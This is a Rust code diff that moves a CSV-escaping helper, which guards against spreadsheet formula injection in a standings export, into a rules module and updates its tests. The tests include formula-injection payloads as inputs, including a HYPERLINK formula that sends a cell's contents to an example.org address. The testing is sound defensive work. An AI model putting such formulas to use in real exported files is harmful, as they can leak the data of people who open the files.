@@ -148,7 +148,7 @@ fn csv(standings: &Standings<'_>) -> String {
         let number = |number: Option<f64>| number.map(|number| format!("{number:.3}")).unwrap_or_default();
         let fields = [
             one.place.to_string(),
-            csv_field(&printable(&one.entrant.name)),
+            rules::csv_field(&printable(&one.entrant.name)),
             games.games().to_string(),
             games.points().to_string(),
             games.wins.to_string(),
@@ -164,9 +164,9 @@ fn csv(standings: &Standings<'_>) -> String {
             row.suspect.to_string(),
             row.repeated.to_string(),
             u8::from(standings.table().retirements().contains_key(&one.number)).to_string(),
-            csv_field(&printable(&one.entrant.bot)),
-            csv_field(&printable(one.entrant.details.author.as_deref().unwrap_or_default())),
-            csv_field(&printable(one.main_fault().unwrap_or_default())),
+            rules::csv_field(&printable(&one.entrant.bot)),
+            rules::csv_field(&printable(one.entrant.details.author.as_deref().unwrap_or_default())),
+            rules::csv_field(&printable(one.main_fault().unwrap_or_default())),
             String::new(),
         ];
         let _ = writeln!(text, "{}", fields.join(","));
@@ -174,21 +174,13 @@ fn csv(standings: &Standings<'_>) -> String {
     let columns = CSV.split(',').count();
     for (bot, reason) in standings.table().left_out() {
         let fields = (0..columns).map(|column| match columns - column {
-            4 => csv_field(&printable(bot)),
-            1 => csv_field(&printable(reason)),
+            4 => rules::csv_field(&printable(bot)),
+            1 => rules::csv_field(&printable(reason)),
             _ => String::new(),
         });
         let _ = writeln!(text, "{}", fields.collect::<Vec<_>>().join(","));
     }
     text
-}
-
-/// A text as a field. One that begins as a formula would is given a `'` before it, as OWASP advises against CSV injection:
-/// spreadsheets would compute the others, and formulas can start programs and send cells to a server.
-fn csv_field(text: &str) -> String {
-    let is_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
-    let text = &if is_formula { format!("'{text}") } else { text.to_owned() };
-    if text.contains([',', '"']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_owned() }
 }
 
 /// Writes the standings to standard output: as a table, or as an event for programs.
@@ -210,12 +202,12 @@ mod tests {
     #[test]
     fn a_name_is_not_a_formula_in_a_spreadsheet() {
         for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"] {
-            assert_eq!(csv_field(formula), format!("'{formula}"));
+            assert_eq!(rules::csv_field(formula), format!("'{formula}"));
         }
         let link = "=HYPERLINK(\"http://example.org/\"&A1,\"x\")";
-        assert_eq!(csv_field(link), "\"'=HYPERLINK(\"\"http://example.org/\"\"&A1,\"\"x\"\")\"");
+        assert_eq!(rules::csv_field(link), "\"'=HYPERLINK(\"\"http://example.org/\"\"&A1,\"\"x\"\")\"");
         for name in ["Ann", "a-b", "'quoted", "1=1"] {
-            assert_eq!(csv_field(name), name);
+            assert_eq!(rules::csv_field(name), name);
         }
     }
 }
